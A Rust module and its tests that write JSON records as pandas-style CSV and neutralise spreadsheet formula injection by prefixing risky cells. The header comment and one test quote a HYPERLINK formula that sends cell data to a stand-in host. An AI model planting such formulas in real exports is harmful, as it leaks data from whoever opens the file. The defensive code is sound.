//! `text/csv`: what pandas 1.0 wrote for `json_normalize(items).to_csv(sep=",",
//! quoting=csv.QUOTE_NONNUMERIC)`.
//!
//! Flattening (`json_normalize` without a record path):
//! - Object values are flattened recursively into `parent.child` columns; an empty object yields
//!   no column at all. Lists are not flattened: a list is one cell, written as its Python repr.
//! - Within a row, top-level non-object keys keep their positions and the flattened keys of
//!   object-valued top-level keys follow at the end, in the order of those keys and depth-first
//!   within each.
//! - Across rows, columns appear in first-seen order. A key that is an object in one row and a
//!   scalar in another yields both `key` and `key.sub` columns.
//!
//! Writing (`to_csv` with Python's `csv` module):
//! - The first column is the 0-based row index, unquoted, under an empty quoted header `""`;
//!   every header name is quoted. Lines end with `\n`. No rows at all gives `""\n`.
//! - Strings are quoted with `"` doubled inside, and written raw (newlines stay inside the
//!   quotes). Missing and null cells are the empty quoted string `""`.
//! - Numbers and booleans are unquoted, with the effect of the column's pandas dtype: a column of
//!   integers and missing/null cells is a float column, so `2` is written `2.0`; a column of
//!   integers and floats is written all as floats; booleans are `True`/`False`; a column mixing
//!   kinds (strings, lists, booleans with numbers or nulls) is written per cell, integers staying
//!   integers. Floats use Python's repr.
//! - Lists are written as their Python repr, quoted (`"[{'key': 'Name'}]"`, `"[]"`).
//!
//! Changed on purpose: a quoted cell or header whose text starts with `=`, `+`, `-`, `@`, a tab
//! or a carriage return gets a leading `'`, so a spreadsheet shows it as text instead of running
//! it as a formula (OWASP's CSV injection advice). Tags and hostnames are tenant-controlled:
//! `=HYPERLINK("http://x/?"&A1,"!")` would otherwise run when the export is opened.

use std::collections::HashMap;

use serde_json::{Map, Value};

use crate::report::render::python::{float_repr, number_text, py_repr};

/// Writes the CSV body for `items`.
pub(crate) fn render(items: &[Map<String, Value>]) -> String {
    let mut columns = Columns::default();
    let rows: Vec<Vec<(usize, &Value)>> = items
        .iter()
        .map(|item| {
            flatten(item)
                .into_iter()
                .map(|(name, value)| (columns.index(name), value))
                .collect()
        })
        .collect();

    // Lay the rows out as a table; `None` is a missing cell (pandas' NaN).
    let width = columns.names.len();
    let table: Vec<Vec<Option<&Value>>> = rows
        .iter()
        .map(|cells| {
            let mut row = vec![None; width];
            for &(index, value) in cells {
                row[index] = Some(value);
            }
            row
        })
        .collect();
    let kinds: Vec<Kind> = (0..width)
        .map(|column| Kind::of(table.iter().map(|row| row[column])))
        .collect();

    let mut out = String::from("\"\"");
    for name in &columns.names {
        out.push(',');
        push_quoted(&mut out, name);
    }
    out.push('\n');
    for (index, row) in table.iter().enumerate() {
        out.push_str(&index.to_string());
        for (cell, kind) in row.iter().zip(&kinds) {
            out.push(',');
            push_cell(&mut out, *kind, *cell);
        }
        out.push('\n');
    }
    out
}

/// Column names in first-seen order.
#[derive(Default)]
struct Columns {
    names: Vec<String>,
    positions: HashMap<String, usize>,
}

impl Columns {
    fn index(&mut self, name: String) -> usize {
        if let Some(&index) = self.positions.get(&name) {
            return index;
        }
        let index = self.names.len();
        self.positions.insert(name.clone(), index);
        self.names.push(name);
        index
    }
}

/// One row's cells in `json_normalize` order. A name produced twice (`"a.b"` next to
/// `"a": {"b": ...}`) keeps its first position and its last value, like Python's `dict.update`.
#[derive(Default)]
struct FlatRow<'a> {
    cells: Vec<(String, &'a Value)>,
    positions: HashMap<String, usize>,
}

impl<'a> FlatRow<'a> {
    fn insert(&mut self, name: String, value: &'a Value) {
        match self.positions.get(&name) {
            Some(&index) => self.cells[index].1 = value,
            None => {
                self.positions.insert(name.clone(), self.cells.len());
                self.cells.push((name, value));
            }
        }
    }

    fn insert_nested(&mut self, prefix: &str, map: &'a Map<String, Value>) {
        for (key, value) in map {
            let name = format!("{prefix}.{key}");
            match value {
                Value::Object(inner) => self.insert_nested(&name, inner),
                _ => self.insert(name, value),
            }
        }
    }
}

/// Flattens one row: top-level scalars first, in place, then each object-valued key's leaves.
fn flatten(row: &Map<String, Value>) -> Vec<(String, &Value)> {
    let mut flat = FlatRow::default();
    for (key, value) in row {
        if !value.is_object() {
            flat.insert(key.clone(), value);
        }
    }
    for (key, value) in row {
        if let Value::Object(inner) = value {
            flat.insert_nested(key, inner);
        }
    }
    flat.cells
}

/// How pandas typed a column, which decides how its numbers are written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    /// int64: integers only.
    Int,
    /// float64: numbers, possibly with missing/null cells; every number is written as a float.
    Float,
    /// bool: booleans only.
    Bool,
    /// object: anything else; each cell is written as its own type.
    Object,
}

impl Kind {
    /// The dtype pandas' `maybe_convert_objects` infers for a column's cells.
    fn of<'a>(cells: impl Iterator<Item = Option<&'a Value>>) -> Kind {
        let (mut null, mut boolean, mut int, mut float) = (false, false, false, false);
        for cell in cells {
            match cell {
                None | Some(Value::Null) => null = true,
                Some(Value::Bool(_)) => boolean = true,
                Some(Value::Number(n)) if n.is_f64() => float = true,
                Some(Value::Number(_)) => int = true,
                Some(_) => return Kind::Object,
            }
        }
        let numeric = int || float;
        match (null, boolean) {
            (true, false) if numeric => Kind::Float,
            (true, _) => Kind::Object,
            (false, true) if numeric => Kind::Object,
            (false, true) => Kind::Bool,
            (false, false) if float => Kind::Float,
            (false, false) => Kind::Int,
        }
    }
}

fn push_cell(out: &mut String, kind: Kind, cell: Option<&Value>) {
    match cell {
        None | Some(Value::Null) => out.push_str("\"\""),
        Some(Value::Bool(true)) => out.push_str("True"),
        Some(Value::Bool(false)) => out.push_str("False"),
        Some(Value::Number(n)) if kind == Kind::Float => {
            out.push_str(&float_repr(n.as_f64().unwrap_or(f64::NAN)));
        }
        Some(Value::Number(n)) => out.push_str(&number_text(n)),
        Some(Value::String(s)) => push_quoted(out, s),
        Some(nested) => push_quoted(out, &py_repr(nested)),
    }
}

/// The first characters a spreadsheet reads as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn push_quoted(out: &mut String, text: &str) {
    out.push('"');
    if text.starts_with(FORMULA_STARTS) {
        out.push('\'');
    }
    out.push_str(&text.replace('"', "\"\""));
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::render;
    use crate::report::render::fixtures::{input_a, rows};
    use serde_json::json;

    #[test]
    fn spec_input_a() {
        let expected = concat!(
            r#""","_id","hostname","ipv4_private","active","cpu","tags","updated_at","datacenters.name","datacenters.provider","memory","datacenters.region","os.base","ansible.user","ansible.port","ansible.key""#,
            "\n",
            r#"0,"64b000000000000000000001","web-1","10.0.0.1",True,2.0,"[{'key': 'Name', 'value': 'web ""a""'}]","2020-05-01T10:00:00","dc1","AWS","","","","","","""#,
            "\n",
            r#"1,"64b000000000000000000002","db-1","",False,"","","","dc1","",1.5,"us-east-1","Linux","ubuntu",2222.0,"~/.ssh/id""#,
            "\n",
        );
        assert_eq!(render(&input_a()), expected);
    }

    #[test]
    fn dtypes_and_nested_values() {
        let items = rows(json!([
            {"_id": "a", "active": true, "n": null, "s": "x,y\nz", "i": 1, "f": 0.1,
             "o": {"k": null, "l": [1, 2]}},
            {"_id": "b", "s": "ok", "i": 2, "f": 2.0, "extra": true}
        ]));
        let expected = concat!(
            r#""","_id","active","n","s","i","f","o.k","o.l","extra""#,
            "\n",
            "0,\"a\",True,\"\",\"x,y\nz\",1,0.1,\"\",\"[1, 2]\",\"\"\n",
            r#"1,"b","","","ok",2,2.0,"","",True"#,
            "\n",
        );
        assert_eq!(render(&items), expected);
    }

    #[test]
    fn key_that_is_a_dict_in_one_row_and_a_scalar_in_another() {
        let items = rows(json!([
            {"_id": "a", "datacenters": {"name": "dc1"}, "z": 1},
            {"_id": "b", "datacenters": null, "z": 2},
            {"_id": "c", "datacenters": "plain"}
        ]));
        let expected = concat!(
            r#""","_id","z","datacenters.name","datacenters""#,
            "\n",
            r#"0,"a",1.0,"dc1","""#,
            "\n",
            r#"1,"b",2.0,"","""#,
            "\n",
            r#"2,"c","","","plain""#,
            "\n",
        );
        assert_eq!(render(&items), expected);
    }

    #[test]
    fn pivot_row_header() {
        let items = rows(json!([{
            "_id": "r1", "name": "ACME", "active": true,
            "systems": {"_id": "s1", "name": "Billing"},
            "applications": {"_id": "a1", "name": "billing-api", "family": "Application"},
            "servers": {"_id": "v1", "hostname": "web-1", "ipv4_private": "10.0.0.1"}
        }]));
        let body = render(&items);
        let header = body.lines().next().expect("valid");
        assert_eq!(
            header,
            r#""","_id","name","active","systems._id","systems.name","applications._id","applications.name","applications.family","servers._id","servers.hostname","servers.ipv4_private""#
        );
    }

    #[test]
    fn empty_containers_and_unicode() {
        let items = rows(json!([{"_id": "a", "emptyd": {}, "empty": [], "name": "é"}]));
        assert_eq!(
            render(&items),
            "\"\",\"_id\",\"empty\",\"name\"\n0,\"a\",\"[]\",\"é\"\n"
        );
    }

    #[test]
    fn formulas_are_written_as_text() {
        let items = rows(json!([
            {"name": "=HYPERLINK(\"http://x/?\"&A1,\"!\")", "n": -3, "t": "+1", "u": "@SUM(A1)",
             "v": "\tx", "w": "\r=1", "x": "-2", "ok": "a=b", "=k": 1},
        ]));
        assert_eq!(
            render(&items),
            "\"\",\"name\",\"n\",\"t\",\"u\",\"v\",\"w\",\"x\",\"ok\",\"'=k\"\n\
             0,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"!\"\")\",-3,\"'+1\",\"'@SUM(A1)\",\"'\tx\",\"'\r=1\",\"'-2\",\"a=b\",1\n"
        );
    }

    #[test]
    fn no_items() {
        assert_eq!(render(&[]), "\"\"\n");
        assert_eq!(render(&rows(json!([{}]))), "\"\"\n0\n");
    }

    #[test]
    fn mixed_columns_are_written_per_cell() {
        let items = rows(json!([
            {"m": 1, "b": true, "x": 1, "y": 1e16, "q": "it's \"q\""},
            {"m": "one", "b": 2, "x": 2.5, "y": 3, "q": ["it's", "a\nb"]},
            {"m": null, "b": null, "x": 3, "y": null, "q": {"d": {"e": 1}}}
        ]));
        let expected = concat!(
            r#""","m","b","x","y","q","q.d.e""#,
            "\n",
            r#"0,1,True,1.0,1e+16,"it's ""q""","""#,
            "\n",
            r#"1,"one",2,2.5,3.0,"[""it's"", 'a\nb']","""#,
            "\n",
            r#"2,"","",3.0,"","",1.0"#,
            "\n",
        );
        assert_eq!(render(&items), expected);
    }
}
